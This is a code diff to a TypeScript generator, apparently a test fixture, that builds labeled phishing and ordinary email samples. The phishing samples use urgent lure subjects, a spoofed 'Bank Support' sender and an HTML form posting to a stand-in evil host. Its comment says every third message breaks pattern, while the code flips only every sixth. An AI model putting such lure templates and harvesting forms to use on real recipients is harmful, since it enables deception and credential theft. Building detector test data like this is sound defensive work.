@@ -25,8 +25,8 @@ const lures = ['account', 'password', 'verify', 'locked', 'urgent', 'payment', '
 const chats = ['meeting', 'garden', 'lunch', 'draft', 'patch', 'weather', 'train', 'library']
 
 /**
- * A message of ours: bait that lures to a page, or a letter that does not. Each number gives another
- * text, and every third message breaks with the habits of its kind.
+ * A message of ours: bait that lures to a page, or a letter that does not. Each number gives
+ * another text, and every third message breaks with the habits of its kind.
  */
 export function labeledMessage(kind: 'phishing' | 'ham', number: number): Buffer {
   const isBait = (kind === 'phishing') !== (number % 3 === 0 && number % 2 === 0)
@@ -38,11 +38,13 @@ export function labeledMessage(kind: 'phishing' | 'ham', number: number): Buffer
     ? `https://secure.bank-${number}.example/verify?id=${number}`
     : `https://www.club-${number}.example/notes/${number}`
   const minute = String(number % 60).padStart(2, '0')
+  const hour = String(Math.floor(number / 60) % 24).padStart(2, '0')
+  const form = `<form action="https://evil-${number}.example/a"><input></form>`
   return Buffer.from(
     [
       `Received: from mail.example (mail.example [192.0.2.${number % 250}])`,
       ` by mx.provider.example with ESMTP id ${number};`,
-      ` Mon, 16 Nov 2026 ${String(Math.floor(number / 60) % 24).padStart(2, '0')}:${minute}:00 +0000`,
+      ` Mon, 16 Nov 2026 ${hour}:${minute}:00 +0000`,
       isBait ? `From: "Bank Support" <x${number}@free.example>` : 'From: Ann <ann@club.example>',
       'To: you@provider.example',
       isBait ? `Subject: URGENT! ${number}!!` : `Subject: Notes ${number}`,
@@ -51,7 +53,7 @@ export function labeledMessage(kind: 'phishing' | 'ham', number: number): Buffer
       'MIME-Version: 1.0',
       'Content-Type: text/html; charset=utf-8',
       '',
-      `<html><body>${isBait ? '<form action="https://evil-${number}.example/a"><input></form>' : ''}`,
+      `<html><body>${isBait ? form : ''}`,
       `<p>${words.join(' ')}</p><a href="${link}">${isBait ? `https://bank.example` : 'notes'}</a>`,
       '</body></html>',
       '',
